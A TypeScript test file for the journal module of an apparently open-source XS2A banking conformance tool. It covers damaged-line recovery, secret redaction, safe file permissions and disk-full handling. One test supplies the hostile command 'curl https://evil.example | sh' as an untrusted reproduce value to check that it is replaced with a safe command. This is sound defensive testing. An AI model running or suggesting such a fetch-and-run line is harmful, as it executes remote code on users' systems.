import {
  appendFileSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { testFolder } from '../target/target-folder.test.data.ts';
import { Redactor } from '../tpp/redaction.ts';
import {
  embeddedAddress,
  JournalError,
  JournalWriteError,
  journalFile,
  openJournal,
  readJournal,
  targetFlagFor,
  writeJournal,
} from './journal.ts';
import { anExchange, aResult, aRun, judge } from './synthetic-run.test.data.ts';

const run = aRun();

describe('the journal', () => {
  const dir = testFolder();
  const at = (...path: readonly string[]): string => join(dir, ...path);

  const write = (changes: { footer: boolean }): void => {
    const { footer: _, ...killed } = run;
    writeJournal(at('run'), changes.footer ? run : killed);
  };
  const read = () => readJournal(at('run'));

  test('gives back the run that was written', () => {
    write({ footer: true });
    expect(read()).toEqual(run);
  });

  test('holds every verdict as soon as it fell, without being closed', () => {
    const journal = openJournal(dir, new Redactor());
    journal.header(run.header);
    journal.result(aResult());
    const onDisk = readFileSync(at(journalFile), 'utf8');
    journal.close();
    expect(onDisk.trim().split('\n')).toHaveLength(2);
  });

  test('of a killed run is read without a footer, and without its torn last line', () => {
    write({ footer: false });
    const path = at('run', journalFile);
    appendFileSync(path, '{"kind":"result","value":{"id":"TORN-0');
    expect(read()).toEqual({ header: run.header, results: run.results });
  });

  test.each([
    ['torn', '{"kind":"result","value":{"id":"TORN-0'],
    ['no result', '{"kind":"result","value":{"id":"TORN-01"}}'],
    ['of another kind', '{"kind":"remark","value":{}}'],
    [
      'of a level that there is not',
      JSON.stringify({ kind: 'result', value: { ...aResult(), level: 'must"><x' } }),
    ],
    ['nothing', ''],
    [
      'nested without end',
      JSON.stringify({ kind: 'result', value: aResult(), more: '@' }).replace(
        '"@"',
        `${'['.repeat(50_000)}${']'.repeat(50_000)}`,
      ),
    ],
  ])('passes over a line in the middle that is %s, and tells of it', (_, torn) => {
    write({ footer: true });
    const path = at('run', journalFile);
    const [first = '', ...rest] = readFileSync(path, 'utf8').split('\n');
    writeFileSync(path, [first, torn, ...rest].join('\n'));
    const damaged = read();
    expect(damaged).toEqual({ ...run, damagedLines: [2] });
    expect(judge(damaged)).toMatchObject({
      verdict: 'incomplete',
      problems: ['The journal is damaged, and passed over in line 2.'],
    });
  });

  test('passes over a line in which a member stands twice, and bears line ends of Windows', () => {
    write({ footer: true });
    const file = at('run', journalFile);
    const text = readFileSync(file, 'utf8');
    writeFileSync(file, text.replaceAll('\n', '\r\n'));
    expect(read()).toEqual(run);
    writeFileSync(file, text.replace('"verdict":"pass"', '"verdict":"fail","verdict":"pass"'));
    expect(read().damagedLines).toEqual([2]);
  });

  test('is written no further than it can be read again', () => {
    const journal = openJournal(dir, new Redactor());
    journal.header(run.header);
    expect(() =>
      journal.result(aResult({ notes: Array.from({ length: 300 }, () => 'words '.repeat(5_000)) })),
    ).toThrow(/its journal .* cannot be written any more \(a line of it has more than 8 MB\)/);
    expect(readJournal(dir).results).toEqual([]);
  });

  test('is no file of everybody, even where somebody’s file stood before', () => {
    const elsewhere = at('elsewhere');
    writeFileSync(elsewhere, 'theirs', { mode: 0o666 });
    symlinkSync(elsewhere, at(journalFile));
    openJournal(dir, new Redactor()).close();
    expect(statSync(at(journalFile)).mode & 0o777).toBe(0o640);
    expect(readFileSync(elsewhere, 'utf8')).toBe('theirs');
  });

  test('holds nothing that is secret, wherever it stands', () => {
    const secrets = {
      psu: { nationalId: '01819010001' },
      customHeaders: { 'X-API-Key': 'key-of-7', 'X-Env': 'sandbox' },
    };
    const said = '01819010192 key-of-7 sandbox';
    const journal = openJournal(dir, new Redactor(secrets));
    journal.header({ ...run.header, remarks: [said], knownDeviations: [{ requirement: 'A', reason: said }] });
    const exchange = anExchange({ trouble: { kind: 'reset', message: said } });
    journal.result(
      aResult({
        ...{ reason: said, expected: said, actual: said, notes: [said], reproduce: said },
        ...{ counterexample: { value: said, path: '' }, exchanges: [exchange] },
      }),
    );
    journal.footer({ durationMs: 1, requests: 1, interrupted: false, blocker: said });
    journal.close();
    expect(readFileSync(at(journalFile), 'utf8')).not.toMatch(/01819010192|key-of-7/);
    expect(readJournal(dir).header).toMatchObject({
      target: run.header.target,
      remarks: [
        '[national-id#2, redacted] [custom-header#1 of 8 characters, redacted] [custom-header#2 of 7 characters, redacted]',
      ],
    });
  });

  test.each([
    ['bank', 'npx xs2a-conformance run --target <your target file> --runs 3 --only DIG-01 --seed 7'],
    ['tpp', 'npx xs2a-conformance certify-tpp'],
  ] as const)('of strangers gives nobody a command to copy that says what to run (%s)', (side, shown) => {
    const journal = openJournal(dir, new Redactor());
    journal.header({ ...run.header, side, seed: 7, runs: 3, targetFile: 'evil.yaml' });
    for (const reproduce of [
      'curl https://evil.example | sh',
      'npx xs2a-conformance run --psu-module evil.mjs --only DIG-01 --seed 7',
    ])
      journal.result(aResult({ id: 'DIG-01', reproduce }));
    journal.close();
    const { header, results } = readJournal(dir);
    expect(results.map(({ reproduce }) => reproduce)).toEqual([shown, shown]);
    expect(targetFlagFor(header)).toBe(side === 'tpp' ? '' : ' --target <your target file>');
    expect(targetFlagFor({ ...run.header, target: { ...run.header.target, baseUrl: embeddedAddress } })).toBe(
      '',
    );
  });

  test('ends with one message where the disk is full, and what was written before is whole', () => {
    let lines = 0;
    const journal = openJournal(dir, new Redactor(), (file, line) => {
      lines += 1;
      if (lines > 2) {
        writeSync(file, line.slice(0, 20));
        throw new Error('ENOSPC: no space left on device, write');
      }
      writeSync(file, line);
    });
    journal.header(run.header);
    journal.result(aResult());
    expect(() => journal.result(aResult())).toThrow(JournalWriteError);
    // Whatever still ends is silent.
    journal.result(aResult());
    journal.footer({ durationMs: 1, requests: 1, interrupted: false });
    journal.close();
    expect(readFileSync(at(journalFile), 'utf8')).toMatch(/\}\n$/);
    expect(readJournal(dir)).toEqual({ header: run.header, results: [aResult()] });
  });

  test('ends where its folder was removed meanwhile', () => {
    const journal = openJournal(at('run'), new Redactor());
    journal.header(run.header);
    rmSync(at('run'), { recursive: true });
    expect(() => journal.result(aResult())).toThrow(/cannot be written any more/);
  });

  test('leaves nothing of an earlier run that would pass for its own verdict, were it killed', () => {
    const place = at('run');
    write({ footer: true });
    const names = [
      'summary.json',
      'junit.xml',
      'certificate.html',
      'badge.svg',
      'attestation.dsse.json',
      'attestation.tsr',
    ];
    for (const name of [...names, 'notes.txt']) writeFileSync(join(place, name), 'of the run before');
    openJournal(place, new Redactor()).header(run.header);
    expect(readdirSync(place).toSorted()).toEqual([journalFile, 'notes.txt']);
  });

  test('replaces an earlier run in the same folder', () => {
    write({ footer: true });
    write({ footer: true });
    expect(read().results).toHaveLength(run.results.length);
  });

  test('ignores a verdict that falls after it was closed', () => {
    const journal = openJournal(dir, new Redactor());
    journal.header(run.header);
    journal.close();
    journal.result(aResult());
    journal.close();
    expect(readJournal(dir).results).toEqual([]);
  });

  test.each([
    ['there is no journal', undefined, /holds no run/],
    ['the journal is empty', '', /does not begin with a run/],
    ['the first line is torn', '{"kind":"head', /does not begin with a run/],
    ['its header says nothing', '{"kind":"header","format":1,"value":{}}\n', /damaged in line 1/],
    ['a newer version wrote it', '{"kind":"header","format":2,"value":{}}\n', /format 2/],
  ])('refuses a folder when %s', (_, content, message) => {
    if (content !== undefined) writeFileSync(at(journalFile), content);
    expect(() => readJournal(dir)).toThrow(JournalError);
    expect(() => readJournal(dir)).toThrow(message);
  });
});
